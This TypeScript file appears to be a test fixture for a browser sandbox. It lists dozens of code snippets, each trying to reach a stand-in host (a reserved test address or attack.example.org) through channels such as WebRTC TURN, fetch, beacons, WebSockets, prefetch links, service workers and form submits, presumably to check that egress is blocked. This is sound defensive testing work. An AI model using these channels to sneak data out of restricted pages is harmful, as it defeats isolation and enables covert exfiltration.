/** Code that runs in the page and tries to reach the outside. */
export interface PageAttack {
  readonly name: string
  readonly code: string
}

/** An address that is nobody's (RFC 5737), and a name whose queries would be seen. */
const address = '198.51.100.7'
const host = (label: string) => `${label}.attack.example.org`

function peer(name: string, url: string): PageAttack {
  return {
    name: `WebRTC ${name}`,
    code: `
      const peer = new RTCPeerConnection({
        iceServers: [{ urls: ${JSON.stringify(url)}, username: 'u', credential: 'c' }],
      });
      (globalThis.attackers ??= []).push(peer);
      peer.createDataChannel('x');
      peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
  }
}

function link(rel: string, more = ''): PageAttack {
  return {
    name: `link ${rel}${more && ` (${more})`}`,
    code: `
      const link = document.createElement('link');
      Object.assign(link, { rel: ${JSON.stringify(rel)}, href: 'https://${host(rel)}/x' });
      ${more && `link.setAttribute('as', ${JSON.stringify(more)});`}
      document.head.append(link)`,
  }
}

function element(tag: string, property: string, then = ''): PageAttack {
  return {
    name: `${tag} ${property}`,
    code: `
      const made = document.createElement(${JSON.stringify(tag)});
      document.body.append(made);
      made.setAttribute(${JSON.stringify(property)}, 'https://${host(`${tag}-${property}`)}/x');
      ${then}`,
  }
}

/**
 * Everything by which a page is known to reach out. Each runs by itself, in a task of the page, and may throw.
 * Addresses stand both as numbers, which need no name server, and as names.
 */
export const pageAttacks: readonly PageAttack[] = [
  peer('host candidates', `stun:${address}:3478`),
  peer('STUN over UDP by name', `stun:${host('stun')}:3478`),
  peer('TURN over UDP by number', `turn:${address}:3478?transport=udp`),
  peer('TURN over TCP by number', `turn:${address}:3478?transport=tcp`),
  peer('TURN over TLS by number', `turns:${address}:443?transport=tcp`),
  peer('TURN over UDP by name', `turn:${host('turn-udp')}:3478?transport=udp`),
  peer('TURN over TCP by name', `turn:${host('turn-tcp')}:3478?transport=tcp`),
  {
    name: 'WebRTC to a candidate given by hand',
    code: `
      const peer = new RTCPeerConnection();
      (globalThis.attackers ??= []).push(peer);
      const far = new RTCPeerConnection();
      peer.createDataChannel('x');
      peer.createOffer()
        .then((offer) => peer.setLocalDescription(offer).then(() => far.setRemoteDescription(offer)))
        .then(() => far.createAnswer())
        .then((answer) => peer.setRemoteDescription(answer))
        .then(() => Promise.all([
          'candidate:1 1 udp 2113937151 ${address} 3478 typ host',
          'candidate:2 1 tcp 2113937150 ${address} 3478 typ host tcptype passive',
          'candidate:3 1 udp 2113937149 0123abcd-1234-4bcd-8bcd-0123456789ab.local 3478 typ host',
          'candidate:4 1 udp 2113937148 ${host('candidate')} 3478 typ host',
        ].map((candidate) => peer.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 }))))`,
  },
  link('dns-prefetch'),
  link('preconnect'),
  link('prefetch'),
  link('prerender'),
  link('modulepreload'),
  link('preload', 'image'),
  link('stylesheet'),
  link('icon'),
  link('manifest'),
  element('img', 'src'),
  element('video', 'src'),
  element('audio', 'src'),
  element('iframe', 'src'),
  element('object', 'data'),
  element('embed', 'src'),
  element('script', 'src'),
  element('form', 'action', 'made.submit()'),
  element('a', 'href', "made.setAttribute('target', '_blank'); made.textContent = 'x'; made.click()"),
  element('a', 'ping', "made.setAttribute('href', '#x'); made.textContent = 'x'; made.click()"),
  {
    name: 'a style sheet with an image and a font',
    code: `
      const sheet = new CSSStyleSheet();
      document.adoptedStyleSheets.push(sheet);
      sheet.insertRule('body { background: url(https://${host('css-image')}/x.png) }');
      sheet.insertRule('@font-face { font-family: far; src: url(https://${host('css-font')}/x.woff2) }');
      new FontFace('far2', 'url(https://${host('font-face')}/x.woff2)').load()`,
  },
  {
    name: 'the open lookups of anchors',
    code: `
      const meta = document.createElement('meta');
      meta.httpEquiv = 'x-dns-prefetch-control';
      meta.content = 'on';
      document.head.append(meta);
      const anchor = document.createElement('a');
      anchor.href = 'https://${host('anchor')}/';
      anchor.textContent = 'x';
      document.body.append(anchor);
      anchor.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
      anchor.focus()`,
  },
  {
    name: 'speculation rules',
    code: `
      const script = document.createElement('script');
      script.type = 'speculationrules';
      document.head.append(script);
      script.text = JSON.stringify({
        prefetch: [{ urls: ['https://${host('speculation')}/'], eagerness: 'immediate' }],
        prerender: [{ urls: ['https://${host('prerender')}/'], eagerness: 'immediate' }],
      })`,
  },
  { name: 'fetch', code: `fetch('https://${host('fetch')}/', { mode: 'no-cors', keepalive: true })` },
  { name: 'fetch by number', code: `fetch('http://${address}/', { mode: 'no-cors' })` },
  { name: 'an image by number', code: `new Image().src = 'https://${address}/x.png'` },
  {
    name: 'XMLHttpRequest',
    code: `const asked = new XMLHttpRequest(); asked.open('GET', 'https://${host('xhr')}/'); asked.send()`,
  },
  { name: 'a beacon', code: `navigator.sendBeacon('https://${host('beacon')}/', 'x')` },
  { name: 'EventSource', code: `new EventSource('https://${host('events')}/')` },
  { name: 'WebSocket', code: `new WebSocket('wss://${host('socket')}/')` },
  { name: 'WebSocket by number', code: `new WebSocket('ws://${address}/')` },
  { name: 'WebTransport', code: `new WebTransport('https://${host('transport')}:4433/')` },
  { name: 'WebTransport by number', code: `new WebTransport('https://${address}:4433/')` },
  { name: 'a worker', code: `new Worker('https://${host('worker')}/x.js')` },
  { name: 'a shared worker', code: `new SharedWorker('https://${host('shared-worker')}/x.js')` },
  {
    name: 'a service worker',
    code: `navigator.serviceWorker.register('https://${host('service-worker')}/x.js')`,
  },
  { name: 'an import', code: `import('https://${host('import')}/x.js')` },
  { name: 'a new window', code: `globalThis.open('https://${host('window')}/')` },
  { name: 'a new window by number', code: `globalThis.open('https://${address}/')` },
  { name: 'going elsewhere', code: `location.assign('https://${host('location')}/')` },
  { name: 'going elsewhere by number', code: `location.assign('https://${address}/')` },
  {
    name: 'speech',
    code: `
      speechSynthesis.getVoices();
      speechSynthesis.speak(new SpeechSynthesisUtterance('x'));
      const Recognition = globalThis.SpeechRecognition ?? globalThis.webkitSpeechRecognition;
      new Recognition().start()`,
  },
  {
    name: 'spelling',
    code: `
      const area = document.createElement('textarea');
      area.spellcheck = true;
      area.lang = 'fr';
      document.body.append(area);
      area.focus();
      document.execCommand('insertText', false, 'qwzx speling mistaek ')`,
  },
  {
    name: 'protected media, payments, contacts, identities',
    code: `
      navigator.requestMediaKeySystemAccess?.('com.widevine.alpha', [
        { initDataTypes: ['cenc'], videoCapabilities: [{ contentType: 'video/mp4; codecs="avc1.42E01E"' }] },
      ]).catch(() => undefined);
      navigator.credentials?.get({
        identity: { providers: [{ configURL: 'https://${host('identity')}/x.json', clientId: 'x' }] },
      }).catch(() => undefined);
      new PaymentRequest([{ supportedMethods: 'https://${host('payment')}/' }], {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      }).show()`,
  },
]

/** The attacks of these names. Throws when one is none. */
export function attacksNamed(...names: readonly string[]): readonly PageAttack[] {
  const found = pageAttacks.filter(({ name }) => names.includes(name))
  if (found.length !== names.length) throw new Error(`not all of these are attacks: ${names.join(', ')}`)
  return found
}
